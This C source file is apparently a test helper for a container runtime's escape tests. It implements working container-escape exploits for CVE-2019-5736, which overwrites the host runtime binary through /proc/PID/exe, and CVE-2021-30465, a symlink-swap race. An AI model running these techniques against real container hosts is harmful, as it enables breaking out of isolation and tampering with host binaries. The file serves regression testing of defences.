/* attacker: what a hostile container runs in tests/integration/escapes.bats.
 * Static, so that it runs in a busybox rootfs.  Each mode reports what it
 * did to stdout (one line per event) and exits 0; the test decides.
 *
 *   attacker exe-hijack SECONDS
 *     CVE-2019-5736.  As the container's pid 1: watch for any other process
 *     in the pid namespace (the runtime's `exec` child, before and after its
 *     execve), open its /proc/PID/exe as soon as it appears (unless it is
 *     the container's own busybox), and keep trying
 *     to open that for writing and write to it, also after the process is
 *     gone (when a host binary would no longer be busy).  Prints
 *       seen PID exe-open ERRNO-NAME | ok
 *       write-open ERRNO-NAME        (first failure of each kind)
 *       WROTE PID                    (the attack worked)
 *
 *   attacker swap DIR LINK SECONDS
 *     CVE-2021-30465.  Exchange DIR and LINK (renameat2 RENAME_EXCHANGE) as
 *     fast as possible, so that whoever resolves DIR sees a directory one
 *     moment and a symlink the next.  Prints "swaps N".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <stdbool.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

#define MAX_HELD 256

static double
now(void)
{
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double) ts.tv_sec + (double) ts.tv_nsec / 1e9;
}

static const char *
errname(int e)
{
  switch (e)
    {
    case EACCES: return "EACCES";
    case EPERM: return "EPERM";
    case ETXTBSY: return "ETXTBSY";
    case ENOENT: return "ENOENT";
    case ESRCH: return "ESRCH";
    case EROFS: return "EROFS";
    case EISDIR: return "EISDIR";
    default: return strerror(e);
    }
}

/* Report each distinct failure once: the loops run millions of times. */
static void
once(const char *what, int e)
{
  static char seen[64][48];
  static int n;
  char key[48];
  snprintf(key, sizeof key, "%s %d", what, e);
  for (int i = 0; i < n; i++)
    if (strcmp(seen[i], key) == 0)
      return;
  if (n < 64)
    strcpy(seen[n++], key);
  printf("%s %s\n", what, errname(e));
  fflush(stdout);
}

static int
try_write(int fd, pid_t pid)
{
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  int w = open(path, O_WRONLY | O_CLOEXEC);
  if (w < 0)
    {
      once("write-open", errno);
      return 0;
    }
  /* what the 2019 exploit did: replace the start of the binary */
  ssize_t n = pwrite(w, "#!/bin/sh\necho PWNED\n", 21, 0);
  int e = errno;
  close(w);
  if (n == 21)
    {
      printf("WROTE %d\n", (int) pid);
      fflush(stdout);
      return 1;
    }
  once("write", n < 0 ? e : EIO);
  return 0;
}

static int
exe_hijack(double seconds)
{
  /* the container's own programs are its own to spoil: only a binary
   * from outside counts */
  struct stat self, bb;
  if (stat("/proc/self/exe", &self) < 0)
    return 1;
  if (stat("/bin/busybox", &bb) < 0)
    bb = self;
  int held[MAX_HELD];
  pid_t held_pid[MAX_HELD];
  int nheld = 0;
  pid_t reported[4096];
  int nreported = 0;
  double end = now() + seconds;
  while (now() < end)
    {
      DIR *d = opendir("/proc");
      if (d == NULL)
        return 1;
      struct dirent *de;
      while ((de = readdir(d)) != NULL)
        {
          pid_t pid = (pid_t) atoi(de->d_name);
          if (pid <= 1 || pid == getpid())
            continue;
          bool known = false;
          for (int i = 0; i < nheld; i++)
            known |= held_pid[i] == pid;
          if (known)
            continue;
          char path[64];
          snprintf(path, sizeof path, "/proc/%d/exe", (int) pid);
          int fd = open(path, O_PATH | O_CLOEXEC);
          int e = errno;
          bool first = true;
          for (int i = 0; i < nreported; i++)
            first &= reported[i] != pid;
          if (fd < 0)
            {
              /* a process not yet dumpable may become so at execve:
               * keep trying it, report it once */
              if (first && nreported < 4096)
                {
                  reported[nreported++] = pid;
                  printf("seen %d exe-open %s\n", (int) pid, errname(e));
                  fflush(stdout);
                }
              continue;
            }
          struct stat st;
          if (fstat(fd, &st) == 0
              && ((st.st_dev == self.st_dev && st.st_ino == self.st_ino)
                  || (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino)))
            {
              close(fd);
              continue;
            }
          printf("seen %d exe-open ok\n", (int) pid);
          fflush(stdout);
          if (nheld == MAX_HELD)
            {
              close(fd);
              continue;
            }
          held[nheld] = fd;
          held_pid[nheld++] = pid;
          if (try_write(fd, pid))
            return 0;
        }
      closedir(d);
      for (int i = 0; i < nheld; i++)
        if (try_write(held[i], held_pid[i]))
          return 0;
    }
  return 0;
}

static int
swap(const char *a, const char *b, double seconds)
{
  unsigned long n = 0;
  double end = now() + seconds;
  while (now() < end)
    {
      for (int i = 0; i < 1000; i++)
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0)
          n++;
    }
  printf("swaps %lu\n", n);
  return 0;
}

int
main(int argc, char **argv)
{
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 3 && strcmp(argv[1], "exe-hijack") == 0)
    return exe_hijack(atof(argv[2]));
  if (argc == 5 && strcmp(argv[1], "swap") == 0)
    return swap(argv[2], argv[3], atof(argv[4]));
  fprintf(stderr, "usage: attacker exe-hijack SECONDS | swap DIR LINK SECONDS\n");
  return 2;
}
